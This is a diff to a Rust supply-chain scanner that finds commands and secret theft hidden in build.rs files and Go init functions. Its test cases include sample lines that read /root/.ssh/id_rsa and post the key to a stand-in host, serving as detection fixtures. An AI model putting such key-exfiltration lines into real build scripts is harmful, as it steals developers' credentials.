@@ -32,8 +32,7 @@ rule! {
     reference: "https://attack.mitre.org/techniques/T1195/002/",
 }
 
-/// Most calls that are read in one file, and the longest call in bytes.
-const MOST: usize = 200;
+/// Longest call in bytes.
 const CALL: usize = 4000;
 
 /// How a call that starts a program begins, and whether its words are one command line.
@@ -91,23 +90,104 @@ const NETWORK: &[&str] = &[
     "surf::",
 ];
 
+/// A source text as far as brackets and strings go: the languages share them.
+struct Source {
+    /// The text with comments and what stands in strings as blanks, byte for byte.
+    code: String,
+    /// String literals: where they begin, and what they hold.
+    literals: Vec<(usize, String)>,
+}
+
+impl Source {
+    fn of(text: &str) -> Self {
+        let bytes = text.as_bytes();
+        let mut code = bytes.to_vec();
+        let mut literals = Vec::new();
+        let mut at = 0;
+        while let Some(byte) = bytes.get(at).copied() {
+            let rest = bytes.get(at..).unwrap_or_default();
+            let before = at.checked_sub(1).and_then(|i| bytes.get(i)).copied().unwrap_or(b' ');
+            let end = match byte {
+                b'/' if rest.starts_with(b"//") => at + memchr::memchr(b'\n', rest).unwrap_or(rest.len()),
+                b'/' if rest.starts_with(b"/*") => {
+                    at + memchr::memmem::find(rest, b"*/").map_or(rest.len(), |end| end + 2)
+                }
+                b'"' => {
+                    let hashes = raw_hashes(bytes, at);
+                    let (literal, len) = match hashes {
+                        Some(hashes) => raw(text.get(at..).unwrap_or_default(), hashes),
+                        None => literal(text.get(at..).unwrap_or_default()),
+                    };
+                    literals.push((at, literal));
+                    at + len.max(1)
+                }
+                // Go's raw strings.
+                b'`' => {
+                    let len = memchr::memchr(b'`', rest.get(1..).unwrap_or_default()).map_or(rest.len(), |end| end + 2);
+                    literals.push((at, text.get(at + 1..(at + len).saturating_sub(1)).unwrap_or_default().to_owned()));
+                    at + len
+                }
+                // A letter; lifetimes of Rust have no second quote close by.
+                b'\'' if !before.is_ascii_alphanumeric() => match rest {
+                    [_, b'\\', ..] => {
+                        at + 2 + rest.iter().skip(2).take(10).skip(1).position(|b| *b == b'\'').map_or(0, |end| end + 2)
+                    }
+                    _ => at + 1 + rest.iter().skip(2).take(4).position(|b| *b == b'\'').map_or(0, |end| end + 2),
+                },
+                _ => {
+                    at += 1;
+                    continue;
+                }
+            };
+            let end = end.min(bytes.len());
+            code.get_mut(at..end).unwrap_or_default().fill(b' ');
+            at = end.max(at + 1);
+        }
+        Self { code: String::from_utf8_lossy(&code).into_owned(), literals }
+    }
+
+    /// The literals that begin within a range.
+    fn within(&self, range: std::ops::Range<usize>) -> impl Iterator<Item = &str> {
+        let first = self.literals.partition_point(|(at, _)| *at < range.start);
+        self.literals.iter().skip(first).take_while(move |(at, _)| *at < range.end).map(|(_, text)| text.as_str())
+    }
+}
+
+/// How many `#` a raw string of Rust has that begins with this quote; `None` when it is none.
+fn raw_hashes(bytes: &[u8], quote: usize) -> Option<usize> {
+    let before = bytes.get(..quote)?;
+    let hashes = before.iter().rev().take_while(|b| **b == b'#').count();
+    (before.get(..before.len() - hashes)?.last() == Some(&b'r')).then_some(hashes)
+}
+
+/// A raw string that begins with its quote, and its length with its quotes.
+fn raw(text: &str, hashes: usize) -> (String, usize) {
+    let close = format!("\"{}", "#".repeat(hashes));
+    let rest = text.get(1..).unwrap_or_default();
+    match rest.find(&close) {
+        Some(end) => (rest.get(..end).unwrap_or_default().to_owned(), 1 + end + close.len()),
+        None => (rest.to_owned(), text.len()),
+    }
+}
+
 /// Reads a source file.
 pub(super) fn read(file: &Parsed<'_>, text: &str, out: &mut Vec<Command>, notes: &mut Notes) {
     let base = file.base_name();
     let whole = base == "build.rs" || (base.ends_with(".rs") && text.contains("#[proc_macro"));
-    let regions: Vec<&str> = if whole {
-        vec![text]
+    let source = Source::of(text);
+    let regions: Vec<std::ops::Range<usize>> = if whole {
+        std::iter::once(0..text.len()).collect()
     } else if base.ends_with(".go") {
-        initialisers(text)
+        initialisers(&source.code)
     } else {
         Vec::new()
     };
     for region in &regions {
-        judge(file, region, notes);
-        calls(region, When::Automatic, out);
+        judge(file, &source, region, notes);
+        calls(&source, region.clone(), When::Automatic, out);
     }
     if !whole {
-        calls(text, When::Build, out);
+        calls(&source, 0..text.len(), When::Build, out);
     }
 }
 
@@ -115,7 +195,7 @@ pub(super) fn read(file: &Parsed<'_>, text: &str, out: &mut Vec<Command>, notes:
 pub(super) fn formula(_: &Parsed<'_>, text: &str, out: &mut Vec<Command>, _: &mut Notes) {
     for line in text.lines() {
         let Some(call) = line.trim_start().strip_prefix("system ") else { continue };
-        let words: Vec<String> = literals(call).collect();
+        let words: Vec<String> = Source::of(call).literals.into_iter().map(|(_, text)| text).collect();
         match words.as_slice() {
             [] => {
                 // A single command may stand in the other quotes.
@@ -132,37 +212,43 @@ pub(super) fn formula(_: &Parsed<'_>, text: &str, out: &mut Vec<Command>, _: &mu
     }
 }
 
-/// The bodies of `init` functions of Go.
-fn initialisers(text: &str) -> Vec<&str> {
+/// The bodies of `init` functions of Go, in code without strings and comments.
+fn initialisers(code: &str) -> Vec<std::ops::Range<usize>> {
     let mut found = Vec::new();
-    let mut rest = text;
-    while let Some(at) = rest.find("func init()") {
-        let body = rest.get(at..).unwrap_or_default();
+    let mut from = 0;
+    while let Some(at) = code.get(from..).and_then(|rest| rest.find("func init(")) {
+        let start = from + at;
         let mut depth = 0_u32;
-        let mut end = body.len();
-        for (i, c) in body.char_indices() {
-            match c {
-                '{' => depth += 1,
-                '}' if depth <= 1 => {
+        let mut end = code.len();
+        for (i, b) in code.bytes().enumerate().skip(start) {
+            match b {
+                b'{' => depth += 1,
+                b'}' if depth <= 1 => {
                     end = i + 1;
                     break;
                 }
-                '}' => depth -= 1,
+                b'}' => depth -= 1,
                 _ => {}
             }
         }
-        found.push(body.get(..end).unwrap_or(body));
-        rest = body.get(end.max(1)..).unwrap_or_default();
-        if found.len() >= MOST {
-            break;
-        }
+        found.push(start..end);
+        from = end.max(start + 1);
     }
     found
 }
 
-fn judge(file: &Parsed<'_>, region: &str, notes: &mut Notes) {
-    let Some(network) = NETWORK.iter().find(|n| region.contains(**n)) else { return };
-    let address = literals(region).find(|l| l.starts_with("http://") || l.starts_with("https://"));
+fn judge(file: &Parsed<'_>, source: &Source, range: &std::ops::Range<usize>, notes: &mut Notes) {
+    let region = source.code.get(range.clone()).unwrap_or_default();
+    // Programs stand in strings, functions in code.
+    let program = |n: &str| {
+        n.strip_prefix('"').is_some_and(|name| {
+            source
+                .within(range.clone())
+                .any(|l| l == name.trim_end_matches('"') || name == "powershell" && l.starts_with(name))
+        })
+    };
+    let Some(network) = NETWORK.iter().find(|n| region.contains(**n) || program(n)) else { return };
+    let address = source.within(range.clone()).find(|l| l.starts_with("http://") || l.starts_with("https://"));
     let foreign = address.as_ref().filter(|a| {
         let host = a.split_once("://").map_or("", |(_, h)| h).split(['/', ':']).next().unwrap_or_default();
         host.contains('.')
@@ -186,7 +272,7 @@ fn judge(file: &Parsed<'_>, region: &str, notes: &mut Notes) {
         evidence.span = evidence.span.map(|s| file.place(s));
         notes.findings.push(rule.finding(evidence.with_note(note)));
     };
-    let secret = literals(region).find_map(|l| SECRET.iter().find(|s| l.contains(**s)));
+    let secret = source.within(range.clone()).find_map(|l| SECRET.iter().find(|s| l.contains(**s)));
     if let Some(secret) = secret {
         find(&SECRETS, secret, format!("{secret} and {}", network.trim_matches(['(', '"'])), notes);
     } else if let Some(address) = foreign
@@ -194,21 +280,6 @@ fn judge(file: &Parsed<'_>, region: &str, notes: &mut Notes) {
     {
         find(&FETCHES, network, format!("{address} and {}", start.trim_end_matches('(')), notes);
     }
-}
-
-/// String literals of a text, in order.
-fn literals(text: &str) -> impl Iterator<Item = String> {
-    let mut found = Vec::new();
-    let mut at = 0;
-    while let Some(start) = text.get(at..).and_then(|t| t.find('"')) {
-        let (literal, len) = literal(text.get(at + start..).unwrap_or_default());
-        found.push(literal);
-        at += start + len.max(1);
-        if found.len() > 4096 {
-            break;
-        }
-    }
-    found.into_iter()
 }
 
 /// A string literal at the beginning of a text and its length with its quotes.
@@ -231,56 +302,55 @@ fn literal(text: &str) -> (String, usize) {
 }
 
 /// The commands that calls start.
-fn calls(text: &str, when: When, out: &mut Vec<Command>) {
+fn calls(source: &Source, range: std::ops::Range<usize>, when: When, out: &mut Vec<Command>) {
+    let code = source.code.get(range.clone()).unwrap_or_default();
     for (start, is_line) in STARTS {
-        let mut rest = text;
-        while let Some(at) = rest.find(start) {
-            rest = rest.get(at + start.len()..).unwrap_or_default();
+        for (at, _) in code.match_indices(start) {
+            if super::is_full(out) {
+                return;
+            }
+            let open = range.start + at + start.len();
             // The call, and what is chained to it, ends with its statement.
-            let end = rest.floor_char_boundary(CALL);
-            let call = rest.get(..end).unwrap_or(rest);
+            let call = source.code.get(open..).unwrap_or_default();
+            let call = call.get(..call.floor_char_boundary(CALL)).unwrap_or(call);
             let call = call.split(";\n").next().unwrap_or(call);
-            let call = if start.starts_with("Command") { chain(call) } else { arguments(call) };
-            let words: Vec<String> = literals(&call).collect();
-            if words.is_empty() || out.len() > MOST {
+            let parts = if start.starts_with("Command") { chain(call) } else { vec![arguments(call, 0)] };
+            let words: Vec<&str> =
+                parts.into_iter().flat_map(|part| source.within(open + part.start..open + part.end)).collect();
+            if words.is_empty() {
                 continue;
             }
             let trigger = format!("{} of a program", start.trim().trim_end_matches('('));
             if *is_line {
                 out.push(Command::shell(trigger, when, words.join(" ")));
             } else {
-                out.push(Command::words(trigger, when, words.iter().map(String::as_str)));
+                out.push(Command::words(trigger, when, words));
             }
         }
     }
 }
 
-/// What stands up to the bracket that closes the call.
-fn arguments(call: &str) -> String {
+/// What stands from a place up to the bracket that closes the call, in code without strings.
+fn arguments(code: &str, from: usize) -> std::ops::Range<usize> {
     let mut depth = 0_u32;
-    let mut quoted = false;
-    let mut escaped = false;
-    for (i, c) in call.char_indices() {
-        match c {
-            _ if escaped => escaped = false,
-            '\\' => escaped = true,
-            '"' => quoted = !quoted,
-            '(' | '{' | '[' if !quoted => depth += 1,
-            ')' if !quoted && depth == 0 => return call.get(..i).unwrap_or(call).to_owned(),
-            ')' | '}' | ']' if !quoted => depth = depth.saturating_sub(1),
+    for (i, b) in code.bytes().enumerate().skip(from) {
+        match b {
+            b'(' | b'{' | b'[' => depth += 1,
+            b')' if depth == 0 => return from..i,
+            b')' | b'}' | b']' => depth = depth.saturating_sub(1),
             _ => {}
         }
     }
-    call.to_owned()
+    from..code.len()
 }
 
 /// Arguments of `Command::new(…).arg(…).args([…])`: other methods of the chain take none.
-fn chain(call: &str) -> String {
-    let mut all = arguments(call);
-    for part in call.split(".arg").skip(1).take(64) {
-        if let Some(open) = part.find('(').filter(|at| *at <= 1) {
-            all.push_str(", ");
-            all.push_str(&arguments(part.get(open + 1..).unwrap_or_default()));
+fn chain(code: &str) -> Vec<std::ops::Range<usize>> {
+    let mut all = vec![arguments(code, 0)];
+    for (at, name) in code.match_indices(".arg").take(64) {
+        let behind = code.get(at + name.len()..).unwrap_or_default();
+        if let Some(open) = behind.find('(').filter(|open| *open <= 1) {
+            all.push(arguments(code, at + name.len() + open + 1));
         }
     }
     all
@@ -309,6 +379,34 @@ mod tests {
             ["Automatic exec.Command of a program: sh -c 'a|b'", "Build exec.Command of a program: sh -c 'a|b'"]
         );
         assert_eq!(of("a.c", "int f(){\n system(\"a \\\"b\\\"\");\n}"), ["Build system of a program: a \"b\""]);
+    }
+
+    #[test]
+    fn quotes_and_brackets_in_strings_and_comments_are_none() {
+        let of = |name: &str, text: &str| commands(name, FileKind::OtherSource, text);
+        assert_eq!(
+            of(
+                "build.rs",
+                "// an odd \"\nfn main<'a>(){ let c = '\"'; Command::new(\"sh\").arg(r#\"-c \"x\"\"#).spawn();\n}"
+            ),
+            ["Automatic Command::new of a program: sh '-c \"x\"'"]
+        );
+        assert_eq!(
+            of("x.go", "func init() { _ = \"}\"; exec.Command(`sh`, \"-c\", \"a|b\").Run() }"),
+            ["Automatic exec.Command of a program: sh -c 'a|b'", "Build exec.Command of a program: sh -c 'a|b'"]
+        );
+    }
+
+    #[test]
+    fn secrets_that_are_sent_need_no_program() {
+        let rules =
+            |name: &str, text: &str| crate::analyze::commands::tests::findings(name, FileKind::OtherSource, text);
+        let rust =
+            "fn main() { let k = std::fs::read(\"/root/.ssh/id_rsa\"); ureq::post(\"https://c.invalid/u\").send(k); }";
+        assert_eq!(rules("build.rs", rust), ["source-secrets-and-network"]);
+        let go = "package x\nfunc init() { k, _ := os.ReadFile(h + \"/.ssh/id_rsa\"); http.Post(\"https://c.invalid/u\", \"\", k) }";
+        assert_eq!(rules("x.go", go), ["source-secrets-and-network"]);
+        assert!(rules("x.go", &go.replace("func init()", "func send()")).is_empty());
     }
 
     #[test]
